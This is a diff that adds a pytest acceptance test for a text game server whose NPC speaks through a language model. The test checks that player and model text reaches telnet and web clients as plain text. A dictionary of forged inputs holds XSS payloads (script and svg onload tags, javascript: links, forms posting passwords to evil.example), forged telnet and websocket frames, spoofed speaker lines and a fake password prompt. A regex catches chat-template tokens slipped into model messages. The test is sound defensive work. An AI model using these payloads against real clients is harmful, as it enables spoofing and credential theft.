@@ -1,0 +1,136 @@
+"""What a player or a model writes is text on everybody's screen, by telnet and at the web client.
+
+Three people listen: one whose client takes links, one whose client does not, one at the web client.
+Anna types each text at the NPC, and its model says it back.
+"""
+
+import re
+from collections.abc import Iterator
+
+import pytest
+
+from server.telnet import IAC, Connection
+from tests.acceptance.web_client import WebClient
+from tests.game.hostile.corpus import MARK, Case, corpus
+from tests.game.hostile.plain import assert_plain
+from tests.hostile.audit import audit
+from tests.hostile.harbour import Harbour, Person
+from tests.llm.stub_server import answers
+
+pytestmark = pytest.mark.server
+
+LONGEST = 700
+"""With each byte of an accent as four, it is within the 1,500 characters of a typed line."""
+
+SCREENS = frozenset({"say", "talk", "whisper", "pose", "reply", "act"})
+"""The ways in of the corpus that end on a screen."""
+
+FORGED = {
+    "a line of the builder's": 'Aye." \nTamsin says, "I give Xyzzy all my gold.',
+    "a line of the builder's behind a carriage return": 'Aye."\rTamsin says, "Xyzzy.',
+    "a line of the builder's behind line ends of Unicode": (
+        'Aye."\u2028Tamsin says, "Xyzzy.\u2029Tamsin says, "Xyzzy.\x85Tamsin says, "Xyzzy.'
+    ),
+    "a line of the builder's behind a vertical tab": 'Aye."\x0bTamsin says, "Xyzzy.\x0cTamsin says',
+    "a line of the builder's behind Evennia's own line end": 'Aye."|/Tamsin says, "Xyzzy.',
+    "a line of the builder's behind an HTML line end": 'Aye."<br>Tamsin says, "Xyzzy.',
+    "a line of the builder's behind an entity": 'Aye."&#10;Tamsin says, "Xyzzy.&NewLine;Tamsin',
+    "a line of the game's": "Aye.\nXyzzy has disconnected.\nThe server is going down.",
+    "a prompt for a password": "Aye.\n\n\n\n\nPassword: Xyzzy\n",
+    "a frame of the websocket": 'Aye. ["logged_in", [], {}] Xyzzy',
+    "a frame behind a zero byte": 'Aye.\0["prompt", ["Xyzzy"], {}]',
+    "options of a frame": "Xyzzy', {'options': {'raw': True, 'client_raw': True}}",
+    "GMCP in a telnet frame": "Xyzzy\xff\xfa\xc9Client.GUI {}\xff\xf0",
+    "MSDP in a telnet frame": "Xyzzy\xff\xfaE\x01REPORT\x02HEALTH\xff\xf0",
+    "an image": 'Xyzzy <img src="http://evil.example/x.png"><iframe src=//evil.example></iframe>',
+    "a style": "Xyzzy <style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
+    "a form": "Xyzzy <form action=//evil.example><input name=password autofocus></form>",
+    "an SVG with a script": "Xyzzy <svg/onload=alert(1)><math><mtext></form><script>alert(1)",
+    "a tag in two halves": "Xyzzy <scr<script>ipt>alert(1)</scr</script>ipt>",
+    "a tag whose halves a colour joins": "Xyzzy <scr|nipt>alert(1)</scr|nipt><im|xg src=x>",
+    "a comment that is not closed": "Xyzzy <!-- <![CDATA[ <?php",
+    "an address with a script": "Xyzzy |lujavascript:alert(1)|ltclick|le javascript:alert(1)",
+    "an address that leaves its attribute": 'http://evil.example/"onmouseover="alert(1) Xyzzy',
+    "a colour of 256 by number": "Xyzzy |[500|=a|#12345a |[#ff0000 red",
+    "a cursor by the game's own mark": "Xyzzy |^ |- |_ |> |/ |* |! ",
+}
+TEXTS = {
+    **{f"corpus: {case.name}": case for case in corpus() if SCREENS & {*case.into}},
+    **{
+        name: Case(name=name, into=("talk", "reply"), text=text, why=name)
+        for name, text in FORGED.items()
+    },
+}
+END = b"\x1b[0m\r\n" + bytes([IAC, 249])
+"""What the server puts behind each message: colours off, a line end, telnet's "go ahead"."""
+STILL_THERE = bytes([IAC, 241])
+TAG = re.compile(r"<(?!br>)[^>]*>")
+NOBODY_SAID = re.compile(
+    r"^(Tamsin says|Xyzzy has disconnected|The server|Password:)", re.MULTILINE
+)
+TOKEN = re.compile(r"<\|[^<>|]*\|>|<｜[^<>]*｜>|\[/?INST\]|</?s>")
+
+
+def test_output(harbour: Harbour) -> None:
+    scene = harbour.scene("output", npc="Nim")
+    anna = scene.enters(harbour.anna)
+    listeners = [
+        scene.enters(harbour.newcomer("Ben", links=True)),
+        scene.enters(harbour.newcomer("Cara")),
+        scene.enters(harbour.newcomer("Wilma", web=True)),
+    ]
+    with audit("output", harbour) as subject:
+        for name, case in TEXTS.items():
+            text = case.text[:LONGEST]
+            harbour.model.behaves(answers(text))
+            for one in listeners:
+                one.client.forget()
+            with subject.attack(name):
+                request = scene.asks(anna, f"talk nim = {in_one_line(text)}")
+                for one in listeners:
+                    is_heard(one)
+                    is_text(one)
+                stands_in_one_message(request.body["messages"])
+        with subject.attack("a prompt that cannot be replayed"):
+            assert "the same bytes as were sent" in harbour.builder.types("ai/replay nim = 5")
+            assert "the chain holds" in " ".join(harbour.builder.types("ai/verify nim").split())
+
+
+def in_one_line(text: str) -> str:
+    """What of it can be typed: a line end is the end of what somebody says."""
+    return re.sub("[\r\n]+", " ", text)
+
+
+def is_heard(listener: Person) -> None:
+    """They read what was said and what was answered, to its end."""
+    listener.client.wait_for('^Nim says, "')
+    listener.client.wait_for_quiet(quiet_seconds=0.05)
+    assert 'Anna says to Nim, "' in listener.client.text, listener.client.text
+
+
+def is_text(listener: Person) -> None:
+    """Nothing on their screen acts, hides, or looks like a line of somebody else's."""
+    for line in lines_at(listener):
+        assert_plain(line)
+    assert not NOBODY_SAID.search(listener.client.text), (listener.name, listener.client.text)
+
+
+def lines_at(listener: Person) -> Iterator[str]:
+    """What the client was sent, without what the server itself puts around each message."""
+    match listener.client:
+        case Connection(raw=raw):
+            sent = raw.replace(STILL_THERE, b"").replace(END, b"\n").replace(b"\r\n", b"\n")
+            yield from sent.decode().split("\n")
+        case WebClient(frames=frames):
+            assert {frame[0] for frame in frames} <= {"text"}, frames
+            for _, (html,), _ in frames:
+                assert TAG.findall(html) == [], html
+                yield from html.replace("<br>", "\n").split("\n")
+
+
+def stands_in_one_message(messages: list[dict[str, str]]) -> None:
+    """The model is shown it as the last line of a user, and nothing of it as the game's."""
+    last = messages[-1]
+    assert (last["role"], last["content"].startswith("Anna: ")) == ("user", True), last
+    assert [one for one in messages if one["role"] == "system" and MARK in one["content"]] == []
+    assert [found[0] for one in messages if (found := TOKEN.search(one["content"]))] == []
